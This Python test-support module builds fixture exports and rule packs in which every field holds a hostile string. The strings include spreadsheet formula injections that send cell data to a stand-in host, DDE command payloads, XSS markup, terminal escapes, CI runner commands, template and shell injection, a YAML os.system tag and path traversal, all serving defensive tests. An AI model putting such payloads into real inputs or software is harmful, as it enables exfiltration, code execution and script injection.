"""Makes a history, a rule pack and annotation files in which every shown field holds a hostile text."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator, Mapping, Sequence
from itertools import count
from pathlib import Path
from typing import Any

import yaml

from tests.support.exports import history_row, page, task, write, write_csv, write_lines
from tests.support.paths import ROOT

MARK = "pwned"
"""Part of every hostile text: anything that runs, opens or fetches one leaves it behind somewhere."""
SECRET = "whsec_do_not_show_me"
"""The secret of a webhook; no output may hold it."""
SIGNATURE = "sig_do_not_show_me"
"""The signature of an address; only files that hold addresses may hold it."""

FORMULAS = (
    f'=HYPERLINK("http://{MARK}.invalid/?"&A1,"open")', f"+cmd|' /C {MARK}'!A0", f"-2+3+cmd|' /C {MARK}'!A0",
    f"@SUM(1+1)*{MARK}", f"\t=1+{MARK}()", f"\r=1+{MARK}()", f"\n=1+{MARK}()", f"\uff1d1+{MARK}()", f"\uff0b1+{MARK}()",
    f"\uff201+{MARK}()", f"\uff0d1+{MARK}()", f" =1+{MARK}()", f"\u3000=1+{MARK}()", f"a;=1+{MARK}()",
    f"a\t=1+{MARK}()", f'"=1+{MARK}()', f'a"\n=1+{MARK}()', f"=IMPORTXML(CONCAT(\"http://{MARK}.invalid/\",A1))",
)  # fmt: skip
MARKUP = (
    f"<script>window.{MARK}=1</script>", f'"><img src=x onerror="window.{MARK}=1">', f"' onmouseover='window.{MARK}=1",
    f"</script><script>window.{MARK}=1</script>", f"<!--<script>window.{MARK}=1", f"</style><svg onload={MARK}()>",
    f"]]><{MARK}/>", f"&lt;script&gt;{MARK}", f"<iframe srcdoc='<script>{MARK}()</script>'>",
    f"\\u003cscript\\u003e{MARK}",
    f"</table>\n\n<h1>{MARK}</h1>",
)  # fmt: skip
LINKS = (
    f"javascript:window.{MARK}=1//", f"data:text/html,<script>{MARK}()</script>", f"vbscript:{MARK}",
    f"JaVaScRiPt:window.{MARK}=1", f"//{MARK}.invalid/x", f"file:///etc/{MARK}",
)  # fmt: skip
TERMINAL = (
    f"\x1b[2J\x1b[H\x1b]0;{MARK}\x07", f"\x1b[31m{MARK}\x1b[0m", f"\x9b31m{MARK}", f"\x08\x08\x08\x08{MARK}\x7f",
    f"good\r{MARK}", f"\x1b]8;;http://{MARK}.invalid\x1b\\x\x1b]8;;\x1b\\", f"\x1b]52;c;{MARK}\x07",
    f"\u202e{MARK}\u202c", f"\u2066\u2067{MARK}\u2069", f"\u2028{MARK}\u2029", f"\u200e\u200f{MARK}\ufeff",
    f"\x0b\x0c{MARK}\x85", f"\x90q{MARK}\x9c", f"\ud83d{MARK}", f"\u061c{MARK}\U000e0041", f"\0{MARK}",
)  # fmt: skip
RUNNERS = (
    f"::error::{MARK}", f"\n::set-output name={MARK}::1", f"\r\n::add-mask::{MARK}", f"##[error]{MARK}",
    f"%0A::error::{MARK}", f"\n##[add-path]{MARK}", f"::stop-commands::{MARK}", f"x\n::warning file={MARK}::y",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{MARK})", f"![x](http://{MARK}.invalid/x.png)", f"<http://{MARK}.invalid>", f"`|{MARK}|`",
    f"@{MARK} #1 www.{MARK}.invalid", f"**{MARK}** __{MARK}__ ~~{MARK}~~", f"\n\n# {MARK}\n", f"$\\{MARK}$",
    f"[{MARK}]: http://{MARK}.invalid", f"```\n{MARK}", f"| {MARK} | x |\n|---|---|", f"https://{MARK}.invalid/auto",
    f"a\\](http://{MARK}.invalid)", f"{{0}} [see]({MARK})",
)  # fmt: skip
TEMPLATES = (
    f"{{{{ 7*7 }}}}{MARK}", f"{{% include '{MARK}' %}}", f"{{{{ ''.__class__.__mro__ }}}}{MARK}", f"${{7*7}}{MARK}",
    f"%({MARK})s %s %d", f"{{0.__class__}}{MARK}", f"$(touch {MARK})", f"`touch {MARK}`", f"; touch {MARK}",
    f"!!python/object/apply:os.system ['touch {MARK}']",
)  # fmt: skip
PATHS = (
    f"../../../../{MARK}", f"/etc/{MARK}", f"C:\\{MARK}", f"..\\..\\{MARK}", "CON", "nul.txt", "..", ".", "com1",
    f"{MARK}.mp4\n  dir=/etc", f"{MARK}\u202e4pm.exe", f"~/{MARK}", f"-o{MARK}", f"--on-download-complete={MARK}",
    f"{MARK}:stream", f"{MARK}. ", "x" * 400,
)  # fmt: skip
VALUES = (*FORMULAS, *MARKUP, *LINKS, *TERMINAL, *RUNNERS, *MARKDOWN, *TEMPLATES, *PATHS)
"""Everything, for fields that take any text."""

AS_OF = "2026-01-08T00:00:00Z"
_NEVER_IN_YAML = "".join(map(chr, [*range(9), 11, 12, *range(14, 32), *range(127, 160), 0x2028, 0x2029, 0xFEFF]))

NAMES = (
    "=1+{}.jsonl", "<img src=x onerror={}()>.jsonl", "\x1b[2J{}.jsonl", "\u202e{}.jsonl", "a\n::error::{}.jsonl",
    "{{{{7*7}}}}{}.jsonl", "a'\"`{}.jsonl", "##[error]{}.jsonl", "[x](javascript:{}).jsonl",
)  # fmt: skip
"""Names of exports; a name cannot hold `/` or NUL."""


def records() -> Iterator[Any]:
    """Task objects with every value in every field, one field at a time, and then in all fields at once."""
    numbers = count(1)
    for value in VALUES:
        number = next(numbers)
        quoted = value.replace("\0", "")
        # Past, at risk and active by turns, so that every list of the report has hostile rows.
        day = ("2026-01-03T10:00:00Z", "2026-01-05T10:00:00Z", "2026-01-07T10:00:00Z")[number % 3]
        yield task(value, "kling", output=_kling(number), created_at=day, ended_at=day)
        yield task(f"m-{number}", value, output={"image_url": f"https://img.theapi.app/{number}.png"})
        yield task(
            f"y-{number}", "flux", task_type=value, output={"image_url": f"https://img.theapi.app/y{number}.png"}
        )
        yield task(f"s-{number}", "flux", status=value, output={"image_url": f"https://img.theapi.app/s{number}.png"})
        for index, url in enumerate((
            f"https://img.theapi.app/{value}.png", f"https://{value}.klingai.com/x.mp4", f"https://img.theapi.app/x?{value}",
            value, f"https://img.theapi.app/a.mp4#{value}", f"http://{quoted}",
            f"https://s15-kling.klingai.com/{number}.mp4?Expires=1767900000&Signature={SIGNATURE}&x={value}",
        )):  # fmt: skip
            yield task(f"u-{number}-{index}", "flux", output={"image_url": url})
            yield task(f"k-{number}-{index}", "kling", output={"works": [{"video": {"resource": url}}]})
        everything = task(
            f"{value}{number}", value, task_type=value, status=value, service_mode=value, input=value, detail=value,
            output={value: value, "x": f"https://h/{value}"}, created_at=value, ended_at=value,
            usage={"type": value, "consume": 7, "frozen": value},
        )  # fmt: skip
        everything["meta"]["is_using_private_pool"] = value
        everything["config"]["webhook_config"] = {"endpoint": f"https://{SECRET}.invalid/", "secret": SECRET}
        everything["logs"] = [value, SECRET]
        everything["error"] = {"code": 0, "message": value, "raw_message": SECRET}
        yield everything
        row = history_row(f"r{number}{value}", value, action=value, status=value, usage_type=value)
        yield page([{**row, "account_id": value, "api_key_id": value}], total=3)
        # Nothing that could be a record: what was found is quoted in quarantine.csv.
        yield value
        yield [value]
        yield {value: value}
        yield {"task_id": {"a": value}, "model": value}


def _kling(number: int) -> dict[str, Any]:
    signed = f"https://v15-kling.klingai.com/{number}.mp4?Expires=1767900000&Signature={SIGNATURE}"
    clean = f"https://storage.theapi.app/{number}.mp4"
    return {"works": [{"video": {"resource": signed, "resource_without_watermark": clean}}]}


def write_torn_history(folder: Path) -> Path:
    """An export that cannot be read, with a hostile name and hostile bytes."""
    torn = b'{"task_id": "\x1b[2J\xff\n::error::pwned\n{"task_id": "x\n'
    return write(folder / f"::error::{MARK}\x1b[2J\u202e\n##[error].jsonl", torn)


def table_rows() -> list[dict[str, object]]:
    """Rows of a table of files: here output, role and media are the user's words too."""
    return [
        {
            "task_id": f"{model}-{number}", "model": model, "task_type": value, "status": "completed",
            "created_at": "2026-01-06T10:00:00Z", "output": value, "role": value, "media": value, "watermarked": value,
            "url": f"https://storage.theapi.app/{model}/{number}.mp4", "account_id": value, "api_key_id": value,
            "usage_type": value,
        }
        # A service with rules, and one for which there is none.
        for model in ("kling", "music-u")
        for number, value in enumerate(VALUES)
        if "\0" not in value and "\ud83d" not in value
    ]  # fmt: skip


def write_history(folder: Path) -> Path:
    """Write the hostile exports into a folder, one under each hostile name, and return it."""
    folder.mkdir(parents=True)
    lines = [json.dumps(record) for record in records()]
    size = -(-len(lines) // len(NAMES))
    for index, name in enumerate(NAMES):
        write_lines(folder / name.format(MARK), lines[index * size : (index + 1) * size])
    write_csv(folder / "files.csv", table_rows())
    return folder


def _texts(is_line: bool, limit: int = 200) -> Iterator[str]:
    """Hostile texts that a rule file takes, for ever, each with a number, since no two cases may have one name."""
    fit = [
        value[: limit - 8].strip() for value in VALUES
        if not set(value) & set(_NEVER_IN_YAML) and "\ud83d" not in value and not (is_line and set(value) & set("\r\n"))
    ]  # fmt: skip
    for number in count(1):
        yield f"{fit[number % len(fit)]} {number}"


def write_pack(folder: Path) -> Path:
    """Copy the bundled pack and put a hostile text wherever a rule file takes text; the answers stay as they are."""
    shutil.copytree(ROOT / "rules" / "piapi", folder)
    lines, texts = _texts(True), _texts(False)
    hostile = {"title": lines, "publisher": lines, "section": lines, "summary": texts, "reason": texts,
               "evidence": texts, "name": lines, "note": texts, "description": texts}  # fmt: skip

    def poison(value: Any, path: tuple[str, ...]) -> Any:
        if isinstance(value, dict):
            return {key: poison(item, (*path, key)) for key, item in value.items()}
        if isinstance(value, list):
            return [poison(item, path) for item in value]
        # Below `given` and `expect`, and in the catalog, a name is a fact and no text.
        is_fact = {"given", "expect"} & set(path) or (
            path[-1] in ("name", "evidence") and path[0] not in ("cases", "money")
        )
        return value if is_fact or path[-1] not in hostile else next(hostile[path[-1]])

    for path in sorted(folder.rglob("*.yaml")):
        value = poison(yaml.load(path.read_text(encoding="utf-8"), yaml.BaseLoader), ())  # noqa: S506 - text only
        value = _typed(value, yaml.safe_load(path.read_text(encoding="utf-8")))
        if path.name == "pack.yaml":
            for number, source in enumerate(value["sources"]):
                source["url"] = f"https://{MARK}.invalid/{number}?q=%22%3E%3Cscript%3E'onerror=\"<b>[x](y)`"
        path.write_text(yaml.safe_dump(value, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return folder


def _typed(poisoned: Any, real: Any) -> Any:
    """The hostile texts where there was text, and everything else as YAML read it."""
    if isinstance(real, Mapping):
        return {key: _typed(poisoned[str(key) if not isinstance(key, str) else key], one) for key, one in real.items()}
    if isinstance(real, Sequence) and not isinstance(real, str):
        return [_typed(one, two) for one, two in zip(poisoned, real, strict=True)]
    return poisoned if isinstance(real, str) else real


def write_broken_pack(folder: Path) -> Path:
    """A pack in which everything is wrong, in words that are hostile: unknown keys, bad values, names of files."""
    folder.mkdir(parents=True)
    lines, names = _texts(True), count(1)
    (folder / "rules").mkdir()
    (folder / "cases").mkdir()
    keys = {next(lines)[:60]: next(lines) for _ in range(60)}
    _dump(folder / "pack.yaml", {"id": next(lines), "title": next(lines), "schema_version": next(lines), **keys})
    service = {"id": next(lines), "title": next(lines), "names": [{"model": next(lines)}], **keys}
    _dump(folder / "catalog.yaml", {"services": [service], **keys})
    for value in VALUES:
        number = next(names)
        stem = value.replace("/", "_").replace("\0", "").encode("utf-8", "replace").decode()[:40]
        rule = {
            "id": value,
            "title": value,
            "versions": [{"version": value, "storage": value, value: value}],
            value: value,
        }
        text = (
            json.dumps(rule)
            if number % 2
            else yaml.safe_dump(rule, allow_unicode=True).encode("utf-8", "replace").decode()
        )
        (folder / "rules" / f"{number}{stem}.yaml").write_text(text, encoding="utf-8")
    (folder / "rules" / "tag.yaml").write_text(f"!!python/object/apply:os.system ['touch {MARK}']\n", encoding="utf-8")
    (folder / "rules" / "ref.yaml").write_text(f"$ref: http://{MARK}.invalid/rule.yaml\n", encoding="utf-8")
    (folder / "rules" / "raw.yaml").write_bytes(b"id: \x1b[2J::error::pwned\n\x9b\xff\n")
    return folder


def _dump(path: Path, value: Any) -> None:
    path.write_text(yaml.safe_dump(value, allow_unicode=True, sort_keys=False), encoding="utf-8")


def write_marks(folder: Path) -> dict[str, Path]:
    """Exemptions, house rules and a baseline with hostile words, and an inventory of hostile names, by their option."""
    folder.mkdir(parents=True)
    lines, texts = _texts(True), _texts(False)
    cited = {"retrieved_on": "2026-01-02", "basis": "internal"}
    _dump(folder / "exemptions.yaml", {"exemptions": [
        {"id": f"e-{number}", "covers": {"service": [service]}, "until": until,
         "owner": next(lines), "reason": next(texts)}
        for number, (service, until) in enumerate((("flux", "2026-02-01"), ("kling", "2026-01-01")))
    ]})  # fmt: skip
    _dump(folder / "house.yaml", {"rules": [
        {"id": f"h-{number}", "title": next(lines), "versions": [
            {"version": 1, "recorded_on": "2026-01-02", "selector": {"media": ["video"]},
             "save_within": {"period": "P7D"}, "citation": {"source": next(lines), "section": next(lines), **cited}}]}
        for number in range(8)
    ]})  # fmt: skip
    names = [value.replace("\n", "").replace("\r", "").replace("\0", "") for value in VALUES]
    text = "".join(f"{name}\n" for name in [*names, "kling-1", "k-1-0", "kling/k-2-0/video_watermarked/1.mp4"])
    (folder / "inventory.txt").write_text(text, encoding="utf-8", errors="replace")
    return {"--exemptions": folder / "exemptions.yaml", "--house-rules": folder / "house.yaml",
            "--archived": folder / "inventory.txt"}  # fmt: skip
